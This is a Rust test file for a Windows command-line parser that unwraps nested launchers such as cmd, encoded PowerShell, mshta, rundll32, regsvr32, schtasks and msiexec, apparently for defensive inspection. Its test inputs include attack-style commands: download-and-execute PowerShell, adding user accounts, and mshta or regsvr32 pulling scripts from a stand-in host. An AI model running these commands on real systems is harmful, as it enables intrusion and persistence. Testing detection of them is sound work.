use proptest::prelude::*;

use super::*;

fn values(line: &str) -> Vec<String> {
    split(line, 0).iter().map(|argument| argument.text().to_owned()).collect()
}

/// How each innermost step is come to, and its text.
fn innermost(line: &str) -> Vec<String> {
    let unwrapped = unwrap(line);
    let name = |step: &Step| step.parent.map(|(_, through)| format!("{through:?} "));
    let tell = |step: &Step| {
        let mut way: Vec<String> = unwrapped.way(step).filter_map(name).collect();
        way.reverse();
        let what = match &step.what {
            What::Program(program, _) => format!("{} in ", program.text()),
            What::PowerShell | What::JScript | What::VbScript => format!("{:?} ", step.what),
            What::Library(library, entry) => {
                format!("{}!{} in ", library.text(), entry.as_ref().map_or("", Argument::text))
            }
            What::Document(document) => format!("open {} in ", document.text()),
        };
        format!("{}{what}{}", way.concat(), step.text.text().trim())
    };
    unwrapped.innermost().map(tell).collect()
}

fn encoded(script: &str) -> String {
    use base64::Engine;
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn arguments_are_split_as_programs_see_them() {
    assert_eq!(values(r#"a "b c" d"#), ["a", "b c", "d"]);
    assert_eq!(values(r#""a\\" b\"c d\\\"e f\g"#), [r"a\", r#"b"c"#, r#"d\"e"#, r"f\g"]);
    assert_eq!(values(r#""a ""b"" c" "" d""e"#), [r#"a "b" c"#, "", "de"]);
    // The folder that ends in a backslash takes the rest of the line along.
    assert_eq!(values(r#"/d "C:\x y\" /s"#), ["/d", r#"C:\x y" /s"#]);
    let line = r#"x "a \"b\" c""#;
    let argument = &split(line, 0)[1];
    let b = argument.text().find('b').unwrap();
    assert_eq!(&line[argument.value.source(&(b..b + 1))], "b");
    assert_eq!(&line[argument.range.clone()], r#""a \"b\" c""#);
}

#[test]
fn the_inner_quotes_of_a_task_may_be_single_ones() {
    let line = r#"schtasks /create /tn x /tr "'C:\Program Files\a.exe' /s" /sc daily"#;
    assert_eq!(
        innermost(line),
        [r#"ScheduledTask C:\Program Files\a.exe in "C:\Program Files\a.exe" /s"#]
    );
}

#[test]
fn a_path_with_blanks_and_no_quotes_may_be_several_programs() {
    let line = "C:\\Program Files\\Agent\\setup.exe /s";
    let names: Vec<&str> = candidates(line).into_iter().map(|range| &line[range]).collect();
    assert_eq!(
        names,
        [
            "C:\\Program",
            "C:\\Program Files\\Agent\\setup.exe",
            "C:\\Program Files\\Agent\\setup.exe /s"
        ]
    );
    assert_eq!(candidates("\"C:\\a b.exe\" x").first(), Some(&(1..11)));
    let unwrapped = unwrap(line);
    assert_eq!(unwrapped.steps[0].program().as_deref(), Some("setup"));
    assert_eq!(unwrapped.steps[0].arguments().len(), 1);
}

#[test]
fn cmd_takes_its_quotes_off() {
    assert_eq!(innermost("cmd /c net user x /add"), ["Cmd net in net user x /add"]);
    assert_eq!(
        innermost("cmd.exe /d /c \"net user \"a b\" /add\""),
        ["Cmd net in net user \"a b\" /add"]
    );
    assert_eq!(
        innermost("cmd /c \"C:\\Program Files\\x.exe\""),
        ["Cmd C:\\Program Files\\x.exe in \"C:\\Program Files\\x.exe\""]
    );
    assert_eq!(
        innermost("cmd /s /c \"C:\\Program Files\\x.exe\""),
        ["Cmd C:\\Program in C:\\Program Files\\x.exe"]
    );
    assert_eq!(
        innermost("cmd /c \"\"C:\\a b\\x.exe\" \"c d\"\""),
        ["Cmd C:\\a b\\x.exe in \"C:\\a b\\x.exe\" \"c d\""]
    );
    assert_eq!(innermost("cmd /c\"a && b > c.txt\" d"), ["Cmd a in a", "Cmd b in b  d"]);
    assert!(innermost("cmd /c rem net user x /add").is_empty());
    assert_eq!(innermost("cmd"), ["cmd in cmd"]);
}

#[test]
fn powershell_by_its_abbreviated_parameters() {
    assert_eq!(
        innermost("powershell -nop -ex Bypass -c \"iwr x | iex\" -y"),
        ["PowerShellCommand PowerShell iwr x | iex -y"]
    );
    assert_eq!(innermost("PowerShell.exe Get-Date"), ["PowerShellCommand PowerShell Get-Date"]);
    assert_eq!(innermost("pwsh .\\a.ps1 -b c"), ["PowerShellFile .\\a.ps1 in .\\a.ps1 -b c"]);
    assert_eq!(
        innermost("powershell /w hidden -f \"a b.ps1\" -Name x"),
        ["PowerShellFile a b.ps1 in \"a b.ps1\" -Name x"]
    );
    assert_eq!(innermost("powershell -Command -"), ["powershell in powershell -Command -"]);
}

#[test]
fn an_encoded_command_is_decoded_and_stands_where_its_text_stands() {
    let blob = encoded("net user kiosk /add");
    let line = format!("cmd /c \"start \"\" /min powershell -nop -enc {blob}\"");
    assert_eq!(innermost(&line), ["Cmd Start EncodedCommand PowerShell net user kiosk /add"]);
    let unwrapped = unwrap(&line);
    let step = unwrapped.innermost().next().unwrap();
    assert_eq!(&line[unwrapped.place(step, &(4..8))], blob);
    let start = &unwrapped.steps[1];
    let program = unwrapped.place(start, &(0..5));
    assert_eq!(&line[program], "start");
}

#[test]
fn whatever_else_starts_programs() {
    for (line, expected) in [
        ("start \"My title\" /wait /d C:\\x setup.exe /s", "Start setup.exe in setup.exe /s"),
        ("start /b x.exe", "Start x.exe in x.exe"),
        ("conhost.exe --headless cmd /c ver", "Conhost Cmd ver in ver"),
        ("forfiles /p C:\\ /m x /c \"cmd /c del @file\"", "Forfiles Cmd del in del @file"),
        ("cscript //B //nologo a.vbs x", "ScriptHost a.vbs in a.vbs x"),
        ("wscript /b -x a.js", "ScriptHost a.js in a.js"),
        ("cmd /c echo.x", "Cmd echo in echo.x"),
        ("mshta javascript:alert(1);close()", "Mshta JScript alert(1);close()"),
        (
            "mshta \"https://x.example/a.hta\"",
            "Mshta open https://x.example/a.hta in https://x.example/a.hta",
        ),
        (
            "rundll32 printui.dll,PrintUIEntry /ga /n\\\\a\\b",
            "Rundll32 printui.dll!PrintUIEntry in printui.dll,PrintUIEntry /ga /n\\\\a\\b",
        ),
        (
            "rundll32.exe \"C:\\a b\\x.dll\", Start",
            "Rundll32 C:\\a b\\x.dll!Start in \"C:\\a b\\x.dll\", Start",
        ),
        ("regsvr32 /s \"C:\\a b\\x.dll\"", "Regsvr32 C:\\a b\\x.dll! in \"C:\\a b\\x.dll\""),
        (
            "schtasks /create /tn x /tr \"\\\"C:\\a b\\x.exe\\\" /s\" /sc onlogon",
            "ScheduledTask C:\\a b\\x.exe in \"C:\\a b\\x.exe\" /s",
        ),
        ("schtasks /delete /tn x", "schtasks in schtasks /delete /tn x"),
        ("runas /user:a \"cmd /c whoami\"", "RunAs Cmd whoami in whoami"),
        ("psexec \\\\host -s -i 1 -u a -p b cmd /c ver", "PsExec Cmd ver in ver"),
        ("cmd /c call x.bat a", "Cmd Call x.bat in x.bat a"),
    ] {
        assert_eq!(innermost(line), [expected], "{line}");
    }
    assert_eq!(
        innermost("regsvr32 /s /n /u /i:https://x.example/f.sct scrobj.dll"),
        [
            "Regsvr32 open https://x.example/f.sct in /i:https://x.example/f.sct",
            "Regsvr32 scrobj.dll! in scrobj.dll",
        ]
    );
}

#[test]
fn msiexec_and_its_properties() {
    let line =
        "cmd /c msiexec.exe /i \"a b.msi\" /qn /norestart /l*v %TEMP%\\x.log SERVER=\"a b\" Mode=2";
    let unwrapped = unwrap(line);
    let step = unwrapped.innermost().next().unwrap();
    let found = step.installer().unwrap();
    assert_eq!(found.action.as_deref(), Some("i"));
    assert_eq!(found.package.as_ref().map(Argument::text), Some("a b.msi"));
    assert_eq!(found.interface.as_deref(), Some("n"));
    assert_eq!(found.log.as_ref().map(Argument::text), Some("%TEMP%\\x.log"));
    assert!(found.is_no_restart);
    let server = found.property("server").unwrap();
    assert_eq!(server.value, "a b");
    assert_eq!(&line[unwrapped.place(step, &server.value_range)], "\"a b\"");
    assert_eq!(found.properties[1].name, "Mode");
    let attached = unwrap("msiexec /x{ABC} /quiet").steps[0].installer().unwrap();
    assert_eq!(attached.action.as_deref(), Some("x"));
    assert_eq!(attached.package.unwrap().text(), "{ABC}");
}

#[test]
fn unwrapping_ends() {
    let line = "cmd /c ".repeat(100) + "ver";
    let unwrapped = unwrap(&line);
    assert_eq!(unwrapped.steps.len(), 1 + MAX_STEPS_DEEP);
    // Windows starts nothing with so long a line.
    let line = format!("cmd /c {}", "a & ".repeat(10_000));
    assert_eq!(unwrap(&line).steps.len(), 1);
}

/// An argument, quoted as a program would do it.
fn quoted(argument: &str) -> String {
    let mut text = String::from("\"");
    let mut backslashes = 0;
    for ch in argument.chars() {
        if ch == '"' {
            text.push_str(&"\\".repeat(backslashes + 1));
        }
        backslashes = if ch == '\\' { backslashes + 1 } else { 0 };
        text.push(ch);
    }
    text.push_str(&"\\".repeat(backslashes));
    text + "\""
}

fn is_sound(line: &str) {
    let unwrapped = unwrap(line);
    let mut length = 0;
    for (index, step) in unwrapped.steps.iter().enumerate() {
        assert!(step.parent.is_none_or(|(parent, _)| parent < index));
        let text = step.text.text();
        length += text.len();
        let whole = unwrapped.place(step, &(0..text.len()));
        assert!(line.get(whole.clone()).is_some(), "{whole:?} of {line:?}");
        for (at, ch) in text.char_indices() {
            let place = unwrapped.place(step, &(at..at + ch.len_utf8()));
            assert!(line.get(place.clone()).is_some(), "{place:?} of {line:?}");
        }
        for argument in step.arguments() {
            assert!(text.get(argument.range.clone()).is_some());
            let place = argument.value.source_range();
            assert!(text.get(place.clone()).is_some());
            assert!(
                argument.text().is_empty()
                    || argument.range.start <= place.start && place.end <= argument.range.end
            );
        }
        step.installer();
    }
    // What a step gives is never more than it has.
    assert!(length <= (line.len() + 8) * 2 * (MAX_STEPS_DEEP + 1), "{length} of {line:?}");
}

proptest! {
    #[test]
    fn what_is_joined_is_split_again(
        arguments in proptest::collection::vec(r#"[a-c \\"]{0,8}|.{0,6}"#, 0..6)
    ) {
        let line = arguments.iter().map(|argument| quoted(argument)).collect::<Vec<_>>().join(" ");
        prop_assert_eq!(values(&line), arguments);
    }

    #[test]
    fn any_line_is_sound(line in ".{0,120}") {
        is_sound(&line);
        candidates(&line);
    }

    #[test]
    fn any_wrapped_line_is_sound(parts in proptest::collection::vec(proptest::sample::select(&[
        "cmd ", "/c ", "/s ", "powershell ", "-c ", "-enc ", "QQBCAA== ", "start ", "\"", "\\", "\\\"",
        "mshta ", "javascript:", "rundll32 ", "a.dll", ",b ", "regsvr32 /i:", "msiexec /i", "A=", "&",
        "^", "(", ")", "%%", "%", "for %i in (", "do ", "é", " ", "schtasks /create /tr ", "forfiles /c ",
        "x.exe ", "psexec ", "-i ", "1 ", "runas ", "conhost ", "call ", "\n", ">", "C:\\a b", "😀",
    ][..]), 0..40)) {
        is_sound(&parts.concat());
    }
}

#[test]
fn the_title_of_start_may_stand_behind_switches() {
    for line in [
        r#"cmd /c start /wait "" "a.msi""#,
        r#"cmd /c start "" /wait a.msi"#,
        r#"cmd /c start /b "Agent setup" /wait a.msi"#,
        r#"cmd /c start /wait "a.msi" /qn"#,
    ] {
        let unwrapped = unwrap(line);
        let last = unwrapped.innermost().next().and_then(Step::program_text);
        assert_eq!(last, Some("a.msi"), "{line}");
    }
}
